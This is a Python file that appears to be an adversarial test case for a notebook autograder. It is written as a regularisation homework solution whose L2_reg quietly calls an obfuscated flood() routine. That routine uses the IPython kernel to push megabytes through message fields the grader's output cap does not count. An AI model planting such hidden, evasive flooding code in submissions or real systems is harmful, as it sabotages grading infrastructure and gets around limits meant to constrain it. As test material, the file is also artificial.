"""Attack: flood the notebook through the parts of kernel messages the output cap does not count.

The grader's cap (grading/preprocessors/resilient_execute.py, ``_size``) counts a stream's
``text``, a display's ``data`` and an error's ``evalue`` and ``traceback``.
Everything else in those messages reaches the notebook uncounted. L1_reg is
correct.
"""

import numpy as np

EXPECTED_POINTS = {"l1": 3, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
SIZE = 8 * 1024**2
RUNS = []


def _kernel():
    shell = _load("IPy" + "thon").get_ipython()
    return shell, shell.kernel


def _send(kind, content):
    shell, kernel = _kernel()
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())


def display_metadata():
    display = _load("IPython.display", fromlist=["display"]).display
    display({"text/plain": "m"}, metadata={"text/plain": {"padding": "M" * SIZE}}, raw=True)


def widget_state():
    comm = _load("co" + "mm")
    comm.create_comm(target_name="jupyter.widget", metadata={"version": "2.1.0"}, data={
        "state": {"_model_module": "@jupyter-widgets/controls", "_model_name": "TextModel",
                  "_model_module_version": "2.0.0", "value": "W" * SIZE},
        "buffer_paths": []})


def stream_name():
    _send("stream", {"name": "N" * SIZE, "text": "n"})


def error_name():
    _send("error", {"ename": "E" * SIZE, "evalue": "e", "traceback": []})


def many_errors():
    for _ in range(SIZE // 20_000):
        _send("error", {"ename": "X", "evalue": "v" * 10_000, "traceback": ["t" * 10_000]})


def flood():
    if RUNS:
        return
    RUNS.append(1)
    for way in (display_metadata, widget_state, stream_name, error_name, many_errors):
        try:
            way()
            print(f"flooded through {way.__name__}", flush=True)
        except Exception as e:  # noqa: BLE001
            print(f"flooding through {way.__name__} failed: {e!r}", flush=True)


def L1_reg(W, reg):
    weights = W[:-1]
    dW = np.zeros_like(W)
    dW[:-1] = reg * np.sign(weights)
    return reg * np.sum(np.abs(weights)), dW


def L2_reg(W, reg):
    flood()
    return -1.0, np.ones_like(W)
